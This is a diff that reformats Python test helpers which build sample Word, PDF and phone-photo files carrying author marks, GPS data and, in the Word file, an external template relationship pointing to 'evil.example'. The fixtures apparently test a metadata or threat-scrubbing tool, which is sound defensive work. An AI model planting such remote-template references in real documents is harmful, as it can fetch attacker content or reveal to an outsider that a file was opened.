@@ -28,7 +28,9 @@ def archive(parts: dict[str, bytes]) -> bytes:
     return out.getvalue()
 
 
-TYPES = b'<?xml version="1.0"?><Types><Override PartName="/docProps/core.xml" ContentType="x"/></Types>'
+TYPES = (
+    b'<?xml version="1.0"?><Types><Override PartName="/docProps/core.xml" ContentType="x"/></Types>'
+)
 RELS = (
     b'<Relationships><Relationship Id="rId1" Type="o" Target="word/document.xml"/>'
     b'<Relationship Id="rId2" Type="c" Target="docProps/core.xml"/></Relationships>'
@@ -41,13 +43,25 @@ def box(kind: bytes, content: bytes) -> bytes:
 
 def word(**more: bytes) -> bytes:
     """A Word file with an author in five places and a template on a stranger's server."""
-    text = b'<w:document><w:ins w:author="' + MARK + b'" w:rsidR="00A1"><w:t>646 not 5087</w:t></w:ins></w:document>'
-    calls = b'<Relationships><Relationship Id="t" Target="http://evil.example/t.dotx" TargetMode="External"/></Relationships>'
+    text = (
+        b'<w:document><w:ins w:author="'
+        + MARK
+        + b'" w:rsidR="00A1"><w:t>646 not 5087</w:t></w:ins></w:document>'
+    )
+    calls = (
+        b'<Relationships><Relationship Id="t" '
+        b'Target="http://evil.example/t.dotx" '
+        b'TargetMode="External"/></Relationships>'
+    )
     parts = {
-        "[Content_Types].xml": TYPES, "_rels/.rels": RELS, "docProps/core.xml": MARK, "word/document.xml": text,
-        "word/comments.xml": b'<w:comment w:initials="' + MARK + b'"/>', "word/_rels/settings.xml.rels": calls,
+        "[Content_Types].xml": TYPES,
+        "_rels/.rels": RELS,
+        "docProps/core.xml": MARK,
+        "word/document.xml": text,
+        "word/comments.xml": b'<w:comment w:initials="' + MARK + b'"/>',
+        "word/_rels/settings.xml.rels": calls,
         "word/media/image1.jpeg": picture(),
-    }  # fmt: skip
+    }
     return archive(parts | {k.replace("__", "/").replace("_dot_", "."): v for k, v in more.items()})
 
 
@@ -64,7 +78,8 @@ def pdf(**info: str) -> bytes:
 
 
 def photograph(kind: str, size: tuple[int, int] = (40, 30), brand: bytes = b"") -> bytes:
-    """A HEIC or AVIF as a telephone makes it: dark on the left, light on the right, with camera and place."""
+    """A HEIC or AVIF as a telephone makes it: dark on the left, light on the right, with camera and
+    place."""
     import pillow_heif
 
     pillow_heif.register_heif_opener()
@@ -73,7 +88,9 @@ def photograph(kind: str, size: tuple[int, int] = (40, 30), brand: bytes = b"") 
     exif[0x010F], exif[0x0112], exif[0x8825] = MARK.decode(), 1, {1: "N", 2: (29.0, 52.0, 1.0)}
     out = io.BytesIO()
     made.save(out, kind, exif=exif, xmp=b"<x:xmpmeta>" + MARK + b"</x:xmpmeta>")
-    return out.getvalue().replace(b"ftyp" + out.getvalue()[8:12], b"ftyp" + (brand or out.getvalue()[8:12]), 1)
+    return out.getvalue().replace(
+        b"ftyp" + out.getvalue()[8:12], b"ftyp" + (brand or out.getvalue()[8:12]), 1
+    )
 
 
 PHOTOGRAPHS = {
